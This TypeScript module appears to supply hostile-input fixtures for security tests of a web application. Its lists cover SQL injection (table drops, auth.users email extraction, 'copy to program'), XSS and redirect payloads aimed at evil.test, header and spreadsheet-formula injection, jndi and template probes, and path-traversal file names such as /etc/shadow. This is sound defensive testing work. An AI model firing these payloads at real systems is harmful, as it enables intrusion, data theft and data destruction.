import { combine } from './combine.ts';

/** Texts that would be a statement where one is put together from them. */
export const statements: readonly string[] = [
  ...["'", "''", '"', '\\', '$1', '$$', '%', '_', '(select 1)', '0x27', '1;drop table apps', '-1', '1e309'],
  ...['NaN', '[]', '{}', '99999999999999999999', '%00', '%27%20or%20sleep(5)', '{{7*7}}', '${7*7}'],
  ...['\u0000', '\ud800', 'ʼ or 1=1', '＇ or 1=1', '1 union select null'],
  ...combine(
    ["'", '"', "\\'", "')", "'))", 'x%', '1'],
    [
      " or '1'='1'",
      ' or 1=1',
      ' and 1=0',
      '; select pg_sleep(5)',
      '||pg_sleep(5)||',
      ' and (select 1 from pg_sleep(5)) is null',
      ' union select null',
      ' union select null,null,version()',
      '; drop table catalog.apps cascade',
      ' or exists (select from auth.users)',
      "||(select string_agg(email, ',') from auth.users)||",
      "; copy (select 1) to program 'id'",
      '::int; set role postgres',
      " limit 1 offset 'x'",
    ],
    ['', '--', '/*', "'", ';'],
  ),
];

/** Addresses that lead to no web page, or carry what an address of a link must not. */
export const noLinks: readonly string[] = [
  ...['//evil.test', '/relative', 'mailto:a@b.c', 'http:evil', 'https://', 'http://', 'https:///a', 'x'],
  ...['https://user:pass@a.test', 'http://user@a.test', `https://a.test/${'x'.repeat(3000)}`],
  ...[`https://${'u'.repeat(1000)}:${'p'.repeat(1000)}@a.test`, 'javascript&colon;alert(1)', 'about:blank'],
  ...combine(
    ['', ' ', '\t', '\u0001'],
    ['javascript', 'JaVaScRiPt', 'java\nscript', 'vbscript', 'data', 'file', 'blob', 'ftp', 'view-source'],
    [':alert(1)', '://a.test/%0aalert(1)'],
  ),
];

/** Markup and scripts that set `window.xss`, or lead away, behind whatever could end what they stand in. */
export const markup: readonly string[] = [
  '{{constructor.constructor("window.xss=1")()}}',
  '${window.xss=1}',
  '\u2028window.xss=1\u2029',
  'javascript:window.xss=1',
  '[x](javascript:window.xss=1)',
  '![x](x" onerror="window.xss=1)',
  '[x]: data:text/html,<script>parent.xss=1</script>',
  '" onfocus="window.xss=1" autofocus="',
  "' onmouseover='window.xss=1' style='position:fixed;inset:0",
  '<!--<script>window.xss=1</script>',
  '<!--><script>window.xss=1</script>-->',
  ...combine(
    ['', '">', "'>", '</title>', '</script>', '</style>', '</textarea>', '</template>', '-->', ']]>'],
    [
      '<script>window.xss=1</script>',
      '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
      '<img src=x onerror=window.xss=1>',
      '<svg onload=window.xss=1>',
      '<svg><script>window.xss=1</script></svg>',
      '<svg><animate onbegin=window.xss=1 attributeName=x>',
      '<iframe srcdoc="<script>parent.xss=1</script>">',
      '<math><mi//xlink:href="data:x,<script>window.xss=1</script>">',
      '<a href="javascript:window.xss=1">x</a>',
      '<base href="https://evil.test/">',
      '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
      '<link rel=stylesheet href=https://evil.test/x.css>',
      '<object data="data:text/html,<script>parent.xss=1</script>">',
      '<form action=https://evil.test><input name=x autofocus onfocus=window.xss=1>',
      '<details open ontoggle=window.xss=1>x</details>',
      '<video><source onerror=window.xss=1></video>',
      '<style>@import "https://evil.test/x.css";</style>',
      '<input autofocus onfocus=window.xss=1>',
      '<noscript><p title="</noscript><img src=x onerror=window.xss=1>">',
    ],
  ),
];

/** Texts that would say more than themselves to a CRM, a mail, a spreadsheet or a terminal. */
export const saysMore: readonly string[] = [
  ...combine(
    ['a'],
    ['\r\n', '\n', '\r', '\u0085', '\u2028', '\u2029', '\u000b', '\u0000', '%0d%0a', '\\r\\n'],
    ['Bcc: x@evil.test', 'X-Injected: 1', 'Content-Length: 0', '\r\n\r\n{"firstName":"other"}', '.\r\nQUIT'],
  ),
  ...combine(
    ['=', '+', '-', '@', '\t=', '\r=', ' =', '"=', ';=', '＝'],
    ['cmd|calc', 'SUM(1)', '1+1', 'HYPERLINK("http://evil.test")', "cmd|' /C calc'!A0"],
  ),
  ...combine(
    ['', 'a', '𝕳'],
    ['\ud800', '\udc00', '\udc00\ud800', '\ufffe', '\u202etxt', '\u200b', '\ufeff', '\u0007'],
  ),
  ...combine(['\u001b[31m', '\u001b]0;x\u0007', '\u009b31m', '\u007f', '\b\b\b'], ['', 'red']),
  ...combine(
    ['${', '{{', '#{', '<%='],
    ['jndi:ldap://x', '7*7', 'constructor', 'env:HOME'],
    ['}', '}}', '%>'],
  ),
  ...combine(["Robert'", '"', "\\'"], ['); --', '; drop table leads', ' or 1=1']),
  ...[
    '<script>alert(1)</script>',
    '𝕳𝖊𝖑𝖑𝖔',
    'ä'.repeat(100),
    'a\u0301'.repeat(90),
    '{"$ne":1}',
    '%s%n%x',
    '\u2066x\u2069',
    '\u00a0x',
  ],
];

/** Part of a file's name that no file of the product has. */
export const nameMark = 'named-by-a-stranger';

/** Names of files that lead elsewhere, mean something to a system, or are no names. */
export const fileNames: readonly string[] = [
  ...['../../etc/passwd.png', '..\\..\\boot.ini', 'x\\u0000.png', `${'n'.repeat(4000)}.png`, '\u202egnp.exe'],
  ...['CON', 'NUL.png', '-rf', '$(id).png', '`id`.png', '. .', '.htaccess', '/etc/shadow', 'C:\\x.png'],
  ...['a.png/../../../b', '..', '.', '~root', 'a;b.png', "a'b.png", '<svg onload=x>.png', 'ä'.repeat(200)],
  ...['\ud83d\uddbc.png', '%2e%2e%2fx.png', 'a|b.png', 'a\tb.png', '*.png', '?.png'],
  ...combine(
    ['../..', '..\\', '..%2f', '%2e%2e/', '..%5c', '....//', '..;/', '\u002e\u002e\u2215'].flatMap((step) =>
      [1, 3, 9].map((times) => step.repeat(times)),
    ),
    [`${nameMark}.png`, `tmp/${nameMark}`, `data/${nameMark}.html`],
  ),
];

/** Fields by which a program might say more than its body may. */
export const flags: readonly string[] = [
  ...['skipToken', 'isActive', 'isAdmin', 'debug', '_method', 'admin', 'role', 'roles', 'force', 'dryRun'],
  ...['override', 'bypass', 'trusted', 'internal', 'userId', 'user_id', 'token', 'verified', 'state', 'id'],
  ...['deliveredAt', 'version', 'createdAt', 'updatedAt', 'deletedAt', 'position', 'owner', 'sudo', 'test'],
  ...[
    'isTest',
    'mode',
    'env',
    'trace',
    'noLimit',
    'skipLimit',
    'skipAuth',
    'skipValidation',
    'credentialsVersion',
  ],
  ...['sessionId', 'sub', 'aud', 'caller', 'requestId', 'x-user-id', 'suspect', 'channelIds', 'reference'],
  ...['revision', '$where', 'constructor', '__proto__'],
];
